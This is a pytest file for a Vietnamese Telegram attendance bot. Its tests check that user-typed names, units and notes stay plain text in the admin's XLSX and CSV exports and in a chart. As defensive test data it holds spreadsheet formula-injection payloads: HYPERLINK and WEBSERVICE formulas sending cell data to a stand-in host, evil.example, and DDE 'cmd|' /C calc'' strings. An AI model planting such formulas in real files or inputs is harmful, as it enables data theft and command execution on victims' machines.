"""Issue 11, finding 2: what people type never becomes a formula in the admin's files.

Found as: a name `=HYPERLINK("http://…"&B2,"Bấm xem")` or a note `=WEBSERVICE(…)` became a
live formula in the XLSX and the CSV export. Sibling: a unit name with "$…$" was mathtext in
the chart (and a malformed one took the chart down).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.core.editions import load_editions
from bot.ui.files.chart import build_chart
from bot.ui.files.csvfile import FORMULA_STARTS, build_csv, neutralise
from bot.ui.files.xlsx import build_xlsx
from bot.ui.texts import Vi
from db.queries.stats import DayRow, Detail, EditionStats, UnitRow
from tests.conftest import ADMIN, Harness
from tests.handlers.test_reports import CHI, DUNG, ORG

VN = ZoneInfo("Asia/Ho_Chi_Minh")
EDITION = load_editions().get(2023)
assert EDITION is not None
MADE_AT = datetime(2023, 10, 9, 1, 30, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm xem")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/?n="&G2)'
# Every start a spreadsheet reads as a formula (OWASP), each with something after it.
PAYLOADS = [f"{start}SUM(1+1)*cmd|' /C calc'!A0" for start in FORMULA_STARTS] + [
    HYPERLINK,
    WEBSERVICE,
    "#N/A",
    "#REF!",
    "=",
    "@",
    "-",
    "+",
]
FIELDS = ("full_name", "unit", "activity", "note")


def assert_no_formula(data: bytes) -> dict[str, list[tuple[object, ...]]]:
    """Every cell of every sheet is a value, none a formula or an error; returns the values."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    wb = load_workbook(io.BytesIO(data))
    values = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in {"f", "e"}, (ws.title, cell.coordinate, cell.value)
        values[ws.title] = list(ws.iter_rows(values_only=True))
    return values


def detail_with(field: str, payload: str) -> Detail:
    values = {"full_name": "Nguyễn An", "unit": "Phòng A", "activity": "reading", "note": "ghi"}
    values[field] = payload
    return Detail(
        date(2023, 10, 3),
        datetime(2023, 10, 3, 2, 0, tzinfo=UTC),
        values["full_name"],
        values["unit"],
        30,
        values["activity"],
        values["note"],
        7,
    )


def stats_with_unit(unit: str) -> EditionStats:
    return EditionStats(
        2023, 1, 1, 1, 30, (DayRow(date(2023, 10, 3), 1, 1, 30),), (UnitRow(unit, 1, 1, 30),)
    )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", FIELDS)
def test_xlsx_writes_every_user_text_column_as_text(field: str, payload: str) -> None:
    unit = payload if field == "unit" else "Phòng A"
    data = build_xlsx(
        Vi, EDITION, stats_with_unit(unit), [detail_with(field, payload)], VN, MADE_AT
    )
    values = assert_no_formula(data)
    row = values["Chi tiết"][1]
    column = {"full_name": 3, "unit": 4, "activity": 6, "note": 7}[field]
    assert row[column] == payload  # the text itself, unchanged
    if field == "unit":
        assert values["Theo đơn vị"][1][0] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", FIELDS)
def test_csv_neutralises_every_user_text_column(field: str, payload: str) -> None:
    data = build_csv(Vi, [detail_with(field, payload)], VN)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cell = rows[1][{"full_name": 3, "unit": 4, "activity": 6, "note": 7}[field]]
    # Inert, and the original still readable after the quote ("#N/A" is no formula: as is).
    assert cell == ("'" + payload if payload.startswith(FORMULA_STARTS) else payload)
    for row in rows:
        assert not any(value.startswith(FORMULA_STARTS) for value in row), row
    # Every field is quoted: a ";" inside a note cannot open a new cell where Excel splits
    # on semicolons (the list separator of Vietnamese Windows).
    assert data.decode("utf-8-sig").splitlines()[1].startswith('"7","03/10/2023","09:00",')


@given(st.text(max_size=40))
def test_neutralise_keeps_text_and_never_leaves_a_formula_start(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in {text, "'" + text}


async def test_formulas_typed_into_the_bot_stay_text_in_both_exports(bot: Harness) -> None:
    """The finding as it was found: typed through the bot, exported by an admin. Names and
    units that start a formula are refused when typed (bot.core.inputs.name_problem); notes
    may hold anything, and stay text in the exports."""
    bot.clock.set(datetime(2023, 10, 3, 9, 0, tzinfo=VN))
    refused = await bot.say(CHI, f"/hoso {HYPERLINK} | Phòng Tổng hợp")
    assert refused is not None and "không được bắt đầu bằng dấu =" in refused.text
    await bot.say(CHI, "/hoso Trần Chi | Phòng Tổng hợp")
    await bot.agree(CHI)
    await bot.say(CHI, f"/diemdanh 30 {WEBSERVICE}")
    await bot.say(DUNG, "/hoso Lê Dũng | Phòng 1")
    await bot.agree(DUNG)
    await bot.say(DUNG, "/diemdanh 45 +cmd|' /C calc'!A0")
    await bot.say(ORG, "/hoso Ngô Tổ chức | Phòng trừ")
    await bot.agree(ORG)
    await bot.say(ORG, "/diemdanh 20 @SUM(1;2)")
    await bot.say(ADMIN, "/stats")
    await bot.press(ADMIN, "rp:xlsx:2023")
    xlsx = bot.telegram.sent(ADMIN.id)[-1].upload
    assert xlsx is not None
    detail = assert_no_formula(xlsx)["Chi tiết"][1:]
    assert {(r[3], r[4], r[7]) for r in detail} == {
        ("Trần Chi", "Phòng Tổng hợp", WEBSERVICE),
        ("Lê Dũng", "Phòng 1", "+cmd|' /C calc'!A0"),
        ("Ngô Tổ chức", "Phòng trừ", "@SUM(1;2)"),
    }
    await bot.say(ADMIN, "/export csv 2023")
    data = bot.telegram.sent(ADMIN.id)[-1].upload
    assert data is not None
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {(r[3], r[4], r[7]) for r in rows[1:]} == {
        ("Trần Chi", "Phòng Tổng hợp", "'" + WEBSERVICE),
        ("Lê Dũng", "Phòng 1", "'+cmd|' /C calc'!A0"),
        ("Ngô Tổ chức", "Phòng trừ", "'@SUM(1;2)"),
    }


@pytest.mark.parametrize("unit", ["Phòng $\\frac{a$ x", "$x^2$ đơn vị", "Ban $", "$$"])
def test_chart_draws_unit_names_as_text(unit: str) -> None:
    """Mathtext would render "$x^2$" as a formula and fail on a malformed "$\\frac{a$"."""
    png = build_chart(Vi, stats_with_unit(unit))
    assert png.startswith(b"\x89PNG")


async def test_chart_with_a_dollar_unit_through_the_bot(bot: Harness) -> None:
    await bot.say(CHI, "/hoso Phạm Chi | Phòng $\\frac{a$ x")
    await bot.agree(CHI)
    await bot.say(ADMIN, "/stats")
    reply = await bot.press(ADMIN, "rp:chart:2023")
    assert reply is not None and reply.media is not None and reply.media[0] == "photo"
